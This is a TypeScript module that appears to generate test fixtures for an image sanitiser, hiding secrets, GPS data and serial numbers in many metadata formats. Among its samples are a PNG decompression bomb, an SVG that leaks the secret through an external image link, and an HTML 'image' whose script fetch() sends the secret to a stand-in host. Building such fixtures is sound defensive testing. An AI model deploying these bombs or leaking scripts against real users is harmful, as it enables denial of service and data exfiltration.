import { deflateSync } from 'node:zlib'
import sharp, { type Sharp } from 'sharp'
import { type Nasty, place, secret, serial } from './secret'

const [width, height] = [96, 64]

/** A picture with something to see: coloured stripes. */
function drawn(): Sharp {
  const pixels = Buffer.alloc(width * height * 3)
  for (let at = 0; at < pixels.length; at += 1) pixels[at] = (at * 7 + Math.floor(at / 300) * 40) & 0xff
  return sharp(pixels, { raw: { width, height, channels: 3 } })
}

const xmp = `<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/" dc:creator="${secret}" xmlns:GCamera="http://ns.google.com/photos/1.0/camera/" GCamera:MotionPhoto="1"/></rdf:RDF></x:xmpmeta><?xpacket end="w"?>`

const u16 = (value: number) => Buffer.from([value >> 8, value & 0xff])
const u32 = (value: number) => Buffer.from([value >>> 24, (value >> 16) & 0xff, (value >> 8) & 0xff, value & 0xff])

/** A JPEG marker segment. */
const segment = (marker: number, body: Buffer | string) => Buffer.concat([Buffer.from([0xff, marker]), u16(Buffer.from(body).length + 2), Buffer.from(body)])

/** `jpeg` with segments behind its first two bytes. */
const withSegments = (jpeg: Buffer, ...segments: Buffer[]) => Buffer.concat([jpeg.subarray(0, 2), ...segments, jpeg.subarray(2)])

/** EXIF with a thumbnail that is a picture with EXIF of its own. */
function thumbnailed(thumbnail: Buffer): Buffer {
  const artist = Buffer.from(`${secret}\0`)
  const first = 8 + 2 + 12 + 4
  const second = first + artist.length + (artist.length % 2)
  const picture = second + 2 + 3 * 12 + 4
  const entry = (tag: number, type: number, count: number, value: number) => Buffer.concat([u16(tag), u16(type), u32(count), u32(value)])
  const head = Buffer.concat([Buffer.from('MM\0*'), u32(8), u16(1), entry(0x013b, 2, artist.length, first), u32(second)])
  const pad = Buffer.alloc(second - first - artist.length)
  const next = Buffer.concat([u16(3), entry(0x0103, 3, 1, 6 << 16), entry(0x0201, 4, 1, picture), entry(0x0202, 4, 1, thumbnail.length), u32(0)])
  return Buffer.concat([Buffer.from('Exif\0\0'), head, artist, pad, next, thumbnail])
}

/** IPTC in Photoshop's resource block: by-line and city. */
function iptc(): Buffer {
  const set = (record: number, text: string) => Buffer.concat([Buffer.from([0x1c, 2, record]), u16(text.length), Buffer.from(text)])
  const sets = Buffer.concat([set(80, secret), set(90, place)])
  return Buffer.concat([Buffer.from('Photoshop 3.0\x008BIM\x04\x04\0\0'), u32(sets.length), sets, Buffer.alloc(sets.length % 2)])
}

function crc(bytes: Buffer): number {
  let value = 0xffffffff
  for (const byte of bytes) {
    value ^= byte
    for (let bit = 0; bit < 8; bit += 1) value = (value >>> 1) ^ (value & 1 ? 0xedb88320 : 0)
  }
  return (value ^ 0xffffffff) >>> 0
}

function chunk(type: string, body: Buffer | string): Buffer {
  const bytes = Buffer.concat([Buffer.from(type), Buffer.from(body)])
  return Buffer.concat([u32(bytes.length - 4), bytes, u32(crc(bytes))])
}

/** PNG chunks go behind the 33 bytes of signature and IHDR. */
const withChunks = (png: Buffer, ...chunks: Buffer[]) => Buffer.concat([png.subarray(0, 33), ...chunks, png.subarray(33)])

/** 30,000 by 30,000 pixels in about a hundred kilobytes. */
function bomb(): Buffer {
  const side = 30_000
  const head = Buffer.concat([u32(side), u32(side), Buffer.from([1, 0, 0, 0, 0])])
  const rows = deflateSync(Buffer.alloc((side / 8 + 1) * side), { level: 9 })
  return Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), chunk('IHDR', head), chunk('IDAT', rows), chunk('IEND', '')])
}

/** A ZIP archive of one stored file, as it is hung on to pictures. */
function zip(): Buffer {
  const body = Buffer.from(secret)
  const common = Buffer.concat([
    Buffer.from([20, 0, 0, 0, 0, 0, 0, 0, 0, 0]),
    Buffer.from(u32(crc(body))).reverse(),
    Buffer.from([body.length, 0, 0, 0, body.length, 0, 0, 0, 5, 0, 0, 0]),
  ])
  const local = Buffer.concat([Buffer.from('PK\x03\x04'), common, Buffer.from('a.txt'), body])
  const central = Buffer.concat([Buffer.from('PK\x01\x02\x14\0'), common, Buffer.alloc(14), Buffer.from('a.txt')])
  const sizes = Buffer.alloc(12)
  sizes.writeUInt16LE(1, 0)
  sizes.writeUInt16LE(1, 2)
  sizes.writeUInt32LE(central.length, 4)
  sizes.writeUInt32LE(local.length, 8)
  return Buffer.concat([local, central, Buffer.from('PK\x05\x06\0\0\0\0'), sizes, Buffer.alloc(2)])
}

const exif = {
  IFD0: { Artist: secret, Make: 'Mitra', Model: serial, Copyright: secret },
  IFD2: { BodySerialNumber: serial, CameraOwnerName: secret, LensSerialNumber: serial },
  IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '25/1 44/1 0/1', GPSLongitudeRef: 'E', GPSLongitude: '82/1 41/1 0/1', GPSAreaInformation: place },
}

async function jpegs(): Promise<Nasty[]> {
  const jpeg = await drawn().jpeg().toBuffer()
  const tagged = await drawn().withExif(exif).jpeg().toBuffer()
  const cleaned = (name: string, bytes: Buffer): Nasty => ({ name, bytes, becomes: 'cleaned' })
  return [
    cleaned('gps-owner-serial.jpg', tagged),
    cleaned('turned.jpg', await drawn().withMetadata({ orientation: 6 }).withExifMerge(exif).jpeg().toBuffer()),
    cleaned('thumbnail.jpg', withSegments(jpeg, segment(0xe1, thumbnailed(tagged.subarray(0, 30_000))))),
    cleaned('xmp.jpg', withSegments(jpeg, segment(0xe1, `http://ns.adobe.com/xap/1.0/\0${xmp}`))),
    cleaned('iptc.jpg', withSegments(jpeg, segment(0xed, iptc()))),
    cleaned('comment-and-app.jpg', withSegments(jpeg, segment(0xfe, secret), segment(0xe7, secret), segment(0xec, `Ducky${secret}`))),
    cleaned('profile.jpg', withSegments(jpeg, segment(0xe2, Buffer.concat([Buffer.from('ICC_PROFILE\0\x01\x01'), Buffer.from(secret)])))),
    cleaned('trailer.jpg', Buffer.concat([jpeg, Buffer.from(secret), Buffer.from(secret, 'utf16le')])),
    cleaned('zip.jpg', Buffer.concat([jpeg, zip()])),
    cleaned(
      'motion-photo.jpg',
      Buffer.concat([withSegments(jpeg, segment(0xe1, `http://ns.adobe.com/xap/1.0/\0${xmp}`)), u32(8 + secret.length), Buffer.from(`ftypmp42${secret}`)]),
    ),
    cleaned('cmyk.jpg', await drawn().toColourspace('cmyk').withExif(exif).jpeg().toBuffer()),
    { name: 'truncated.jpg', bytes: tagged.subarray(0, Math.floor(tagged.length * 0.7)), becomes: 'kept' },
  ]
}

/** Pictures with everything cameras and editors hide in them, and files that only claim to be pictures. */
export async function nastyPictures(): Promise<Nasty[]> {
  const png = await drawn().png().toBuffer()
  const webp = await drawn().withExif(exif).withXmp(xmp).webp().toBuffer()
  const texts = [
    chunk('tEXt', `Author\0${secret}`),
    chunk('zTXt', Buffer.concat([Buffer.from('Comment\0\0'), deflateSync(secret)])),
    chunk('iTXt', `XML:com.adobe.xmp\0\0\0\0\0${xmp}`),
  ]
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink" width="9" height="9"><image x:href="http://127.0.0.1:9/${secret}"/></svg>`
  return [
    ...(await jpegs()),
    { name: 'text-chunks.png', bytes: withChunks(png, ...texts, chunk('vpAg', secret), chunk('tIME', Buffer.from([7, 234, 11, 21, 8, 40, 0]))), becomes: 'cleaned' },
    { name: 'exif.png', bytes: await drawn().withExif(exif).png().toBuffer(), becomes: 'cleaned' },
    { name: 'trailer.png', bytes: Buffer.concat([png, zip()]), becomes: 'cleaned' },
    { name: 'exif-xmp.webp', bytes: webp, becomes: 'cleaned' },
    { name: 'bomb.png', bytes: bomb(), becomes: 'kept' },
    { name: 'half.png', bytes: png.subarray(0, png.length >> 1), becomes: 'kept' },
    { name: 'drawing.jpg', bytes: Buffer.from(svg), becomes: 'kept' },
    { name: 'avif.jpg', bytes: await drawn().withExif(exif).avif({ effort: 0 }).toBuffer(), becomes: 'kept' },
    { name: 'moving.jpg', bytes: await drawn().gif().toBuffer(), becomes: 'kept' },
    { name: 'tiff.jpg', bytes: await drawn().withExif(exif).tiff().toBuffer(), becomes: 'kept' },
    { name: 'page.jpg', bytes: Buffer.from(`<html><script>fetch('http://127.0.0.1:9/${secret}')</script>`), becomes: 'kept' },
    { name: 'empty.jpg', bytes: Buffer.alloc(0), becomes: 'kept' },
  ]
}
